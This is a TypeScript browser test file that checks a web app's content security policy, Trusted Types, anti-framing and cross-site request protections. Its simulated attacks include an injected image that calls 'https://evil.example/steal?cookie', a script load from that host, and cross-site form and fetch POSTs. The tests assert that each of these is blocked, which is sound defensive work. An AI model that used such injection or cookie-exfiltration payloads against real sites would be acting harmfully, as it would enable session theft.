import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { identity } from '#contract/people/identity.ts'
import { type Person, verified } from '../people.ts'
import { sharedBrowser } from './browser.ts'
import { realServer, until } from './server.ts'
import { desktop, type Visit, visit } from './visit.ts'

const server = realServer()
const browser = await sharedBrowser()
let maria: Person
/** A site on another host, with content chosen by each test. */
let elsewhere: Server
let page = ''
let address = ''
beforeAll(async () => {
  maria = await verified(server.api)
  elsewhere = createServer((_, reply) => reply.setHeader('content-type', 'text/html').end(page))
  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
  address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
}, 600_000)
afterAll(async () => {
  elsewhere?.close()
})

/** A window that records every policy violation reported by its pages, in the browser's own text rather than our console's. */
const watched = async (as?: Person): Promise<Visit & { violations: () => Promise<string[]> }> => {
  const opened = await visit(browser, { url: server.url, size: desktop, language: 'en', ...(as ? { as } : {}) })
  await opened.page.addInitScript(() => {
    const kept: string[] = []
    Object.assign(window, { kept })
    document.addEventListener('securitypolicyviolation', (event) => {
      kept.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
    })
  })
  const violations = () => opened.page.evaluate(() => (window as unknown as { kept: string[] }).kept)
  return { ...opened, violations }
}

const settled = async (shown: Page, path: string): Promise<void> => {
  await shown.goto(path)
  await shown.locator('h1, h2').first().waitFor({ state: 'attached' })
  await until('everything is there', async () => {
    const waiting = await shown.locator('.skeleton, .loader-disc, [aria-busy=true]').count()
    return waiting === 0 || undefined
  })
}

describe('our own pages keep the policy', () => {
  test.each([
    ['a visitor', ['/', '/help', '/login', '/signup'], false],
    [
      'a customer',
      ['/dashboard/home', '/dashboard/home/new', '/dashboard/relationship-network', '/dashboard/setting'],
      true,
    ],
  ] as const)('for %s', async (_, paths, signedIn) => {
    const { context, page: shown, problems, violations } = await watched(signedIn ? maria : undefined)
    for (const path of paths) {
      await settled(shown, path)
      expect(await violations(), path).toEqual([])
    }
    expect(problems.filter((problem) => /policy|trusted/i.test(problem))).toEqual([])
    await context.close()
  })
})

describe('a script that got into a page', () => {
  test.each(['/', '/login'])(
    'an injected script cannot write markup, create a policy, add a script or evaluate text on %s',
    async (path) => {
      const { context, page: shown, violations } = await watched()
      await settled(shown, path)
      const tried = await shown.evaluate(async () => {
        const reason = (work: () => unknown): unknown => {
          try {
            return work() ?? 'done'
          } catch (error) {
            return (error as Error).name
          }
        }
        const trusted = (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
        ).trustedTypes
        return {
          markup: reason(() => {
            const made = document.createElement('div')
            made.innerHTML = '<img src=x>'
            return made.innerHTML || 'nothing'
          }),
          policy: reason(() => trusted.createPolicy('mine', { createHTML: (html: string) => html })),
          source: reason(() => {
            document.createElement('script').src = 'https://evil.example/x.js'
          }),
          // Debugger evaluation bypasses the policy; a timer's callback runs as the page's own code.
          text: await new Promise((done) => setTimeout(() => done(reason(() => new Function('return 1')())))),
        }
      })
      // On a screen such a string becomes empty, without an error (web/lib/trusted-types.ts).
      const markup = path === '/' ? 'TypeError' : 'nothing'
      expect(tried).toEqual({ markup, policy: 'TypeError', source: 'TypeError', text: 'EvalError' })
      await shown.evaluate(() => {
        const image = document.createElement('img')
        image.src = 'https://evil.example/steal?cookie'
        document.body.append(image)
      })
      await until('the picture of another site is refused', async () => {
        const found = await violations()
        return found.some((one) => one.startsWith('img-src https://evil.example')) || undefined
      })
      await context.close()
    },
  )
})

describe('a page of another site', () => {
  test('a page of another site cannot frame ours', async () => {
    page = `<iframe src="${server.url}/"></iframe>`
    const { context, page: shown } = await watched()
    const refused = shown.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()))
    await shown.goto(address)
    expect((await refused).text()).toMatch(/frame-ancestors 'none'/)
    await context.close()
  })

  test('a page of another site cannot end a session or change data with a form or a fetch, even for a signed-in reader', async () => {
    const { context, page: shown } = await watched(maria)
    await settled(shown, '/dashboard/home')
    page = `<form method="post" action="${server.url}/api/session/renewal" enctype="text/plain"><button>x</button></form>`
    await shown.goto(address)
    const posted = shown.waitForResponse(`${server.url}/api/session/renewal`)
    await shown.locator('button').click()
    expect((await posted).status()).toBe(403)
    await shown.goto(address)
    const unread = shown.waitForEvent('requestfailed', (request) => request.url() === `${server.url}/api/session`)
    await shown.evaluate((url) => {
      fetch(`${url}/api/session`, { method: 'POST', mode: 'no-cors', credentials: 'include' }).catch(() => {})
    }, server.url)
    expect((await unread).failure()?.errorText).toMatch(/BLOCKED_BY_RESPONSE/)
    expect((await server.api.call(identity.me, { as: maria })).status).toBe(200)
    await context.close()
  })
})
